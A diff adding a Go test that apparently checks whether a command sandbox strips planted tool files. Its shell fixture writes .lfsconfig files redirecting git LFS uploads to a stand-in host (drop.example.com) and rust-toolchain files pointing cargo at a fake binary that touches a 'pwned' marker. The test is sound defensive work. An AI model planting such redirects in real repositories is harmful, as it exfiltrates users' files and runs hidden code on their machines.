@@ -4,6 +4,7 @@ package battery
 
 import (
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -201,6 +202,50 @@ func TestScratchRepositoryOfAnotherUser(t *testing.T) {
 			out, code := b.run("off", "echo ran", "TMPDIR="+tmp)
 			if code != 0 || !strings.Contains(out, "ran") {
 				t.Errorf("exit %d:\n%s", code, out)
+			}
+		})
+	}
+}
+
+// TestGuardToolFiles: files host tools read on their own, planted by a
+// command past the judge (a program it cannot read), at the root and
+// below it: .lfsconfig naming a server of the command's (the person's
+// git push would upload their large files there: git lfs env shows
+// where), and rust-toolchain, without an extension, naming a toolchain
+// directory of the command's (the person's cargo would run its cargo).
+// Afterwards the person's tools on the host use neither.
+func TestGuardToolFiles(t *testing.T) {
+	for _, backend := range backends {
+		t.Run(backend, func(t *testing.T) {
+			b := newBattery(t, backend)
+			if b.session {
+				b.settings("")
+			} else {
+				b.settings("  session: off\n")
+			}
+			marker := filepath.Join(b.base, "pwned")
+			b.host("cp /bin/sh x && mkdir -p sub && echo s > sub/s && git add sub && git commit -qm sub")
+			b.plant("tools", `mkdir -p .tc/bin
+printf '#!/bin/sh\ntouch `+marker+`\n' > .tc/bin/cargo; chmod +x .tc/bin/cargo
+printf '[toolchain]\npath = "`+b.ws+`/.tc"\n' > rust-toolchain
+printf '[toolchain]\npath = "`+b.ws+`/.tc"\n' > sub/rust-toolchain
+printf '[lfs]\n\turl = https://drop.example.com/lfs\n' > .lfsconfig
+printf '[lfs]\n\turl = https://drop.example.com/lfs\n' > sub/.lfsconfig
+echo planted
+`, "planted")
+			for _, f := range []string{"rust-toolchain", "sub/rust-toolchain", ".lfsconfig", "sub/.lfsconfig"} {
+				b.absent(filepath.Join(b.ws, f))
+			}
+			if _, err := exec.LookPath("git-lfs"); err == nil {
+				if env := b.host("git lfs env 2>&1; cd sub && git lfs env 2>&1"); strings.Contains(env, "drop.example.com") {
+					t.Errorf("the person's git lfs uses the command's server:\n%s", env)
+				}
+			}
+			if rustup, err := exec.LookPath("rustup"); err == nil {
+				b.host("cd sub && PATH=" + filepath.Dir(rustup) + ":$PATH cargo --version >/dev/null 2>&1; true")
+				if _, err := os.Stat(marker); err == nil {
+					t.Error("the person's cargo ran the command's toolchain")
+				}
 			}
 		})
 	}
